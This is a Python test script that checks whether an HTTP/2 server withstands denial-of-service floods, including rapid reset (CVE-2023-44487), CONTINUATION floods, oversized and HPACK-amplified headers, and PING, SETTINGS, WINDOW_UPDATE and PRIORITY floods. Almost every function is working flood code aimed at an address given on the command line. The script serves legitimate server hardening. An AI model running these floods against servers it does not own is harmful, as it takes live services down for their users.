"""Floods of frames that cost the sender nothing.

    floods.py CHECK[,CHECK…] ADDRESS
"""

from hyperframe.frame import ContinuationFrame, PingFrame, SettingsFrame, WindowUpdateFrame

from frames import *


def resets():
    """CVE-2023-44487 (rapid reset): a reset stream does not count towards the limit."""
    peer = Peer()
    for start in range(1, 40_001, 200):
        frames = []
        for stream in range(start, start + 200, 2):
            frames += [peer.headers(stream, request("/reset")), frame(3, 0, stream, b"\0\0\0\x08")]
        peer.send(*frames)
    assert_serves()
    expect(peer.outcome(2**31 - 1), [CALM, PROTOCOL, REFUSED])


def resets_by_server():
    """Rapid reset with streams that the server must reset."""
    peer = Peer()
    for start in range(1, 40_001, 200):
        frames = []
        for stream in range(start, start + 200, 2):
            frames += [peer.headers(stream, request("/reset")), frame(8, 0, stream, b"\0\0\0\0")]
        peer.send(*frames)
    assert_serves()
    expect(peer.outcome(2**31 - 1), [CALM, PROTOCOL, REFUSED])


def continuations():
    """An endless head."""
    peer = Peer()
    peer.send(peer.headers(1, request(), end_headers=False))
    block = b"".join(literal(f"x-{n}", "v" * 100) for n in range(100))
    for _ in range(10_000):
        peer.send(ContinuationFrame(1, block))
    outcome = peer.outcome(1)
    if outcome[0] not in (431, 400):
        expect(outcome, [CALM, PROTOCOL, REFUSED, COMPRESSION])
    assert_serves()


def empty_continuations():
    peer = Peer()
    peer.send(peer.headers(1, request(), end_headers=False))
    empty = ContinuationFrame(1, b"").serialize()
    for _ in range(2_000):
        peer.send(empty * 100)
    outcome = peer.outcome(1)
    if outcome[0] not in (431, 400):
        expect(outcome, [CALM, PROTOCOL, REFUSED, COMPRESSION])
    assert_serves()


def large_heads():
    """More than limits.header_bytes: large fields, many fields, and by reference."""
    for more in [[("x", "v" * 15_000)] * 10, [(f"x-{n}", "v" * 50) for n in range(2000)]]:
        peer = Peer()
        blocks = b"".join(literal(name, value) for name, value in request(more=more))
        pieces = [blocks[at : at + 16_000] for at in range(0, len(blocks), 16_000)]
        peer.send(frame(1, 1, 1, pieces[0]))
        for piece in pieces[1:-1]:
            peer.send(ContinuationFrame(1, piece))
        peer.send(ContinuationFrame(1, pieces[-1], flags=["END_HEADERS"]))
        outcome = peer.outcome(1)
        assert outcome[0] == 431 or outcome[0] in ("reset", "goaway") or outcome == "closed", outcome
    # A field of 4 KB that is added to the table and then referenced 5000 times.
    peer = Peer()
    block = b"".join(literal(name, value) for name, value in request())
    big = b"\x40" + literal("x", "v" * 4000)[1:]
    peer.send(frame(1, 5, 1, block + big + b"\xbe" * 5000))
    outcome = peer.outcome(1)
    assert outcome[0] == 431 or outcome[0] in ("reset", "goaway") or outcome == "closed", outcome


def head_over_the_limit():
    """Just over the limit: the response is 431."""
    peer = Peer()
    more = [("x", "v" * 14_000)] * 5
    blocks = b"".join(literal(name, value) for name, value in request(more=more))
    pieces = [blocks[at : at + 16_000] for at in range(0, len(blocks), 16_000)]
    peer.send(frame(1, 1, 1, pieces[0]))
    for piece in pieces[1:-1]:
        peer.send(ContinuationFrame(1, piece))
    peer.send(ContinuationFrame(1, pieces[-1], flags=["END_HEADERS"]))
    assert peer.outcome(1)[0] == 431


def small_frames(kind, times=500):
    """Sends far more than any buffer holds and reads nothing."""
    peer = Peer()
    peer.socket.settimeout(3)
    sent = 0
    try:
        for _ in range(2_000):
            peer.socket.sendall(kind * times)
            sent += times
    except OSError:
        pass  # The server stopped reading or closed: either bounds its memory.
    assert_serves()
    return sent


def pings():
    small_frames(PingFrame(0, b"12345678").serialize())


def settings():
    small_frames(SettingsFrame(0, settings={4: 65535}).serialize())


def empty_data():
    peer = Peer()
    peer.send(peer.headers(1, request("/slow", method="POST"), end_stream=False))
    peer.socket.settimeout(3)
    try:
        for _ in range(2_000):
            peer.socket.sendall(frame(0, 0, 1) * 500)
    except OSError:
        pass
    assert_serves()


def window_updates():
    small_frames(WindowUpdateFrame(0, 1).serialize())


def priorities():
    small_frames(b"".join(frame(2, 0, stream, b"\0\0\0\0\x10") for stream in range(1, 1001, 2)), times=1)


if __name__ == "__main__":
    run(globals(), after=assert_serves)
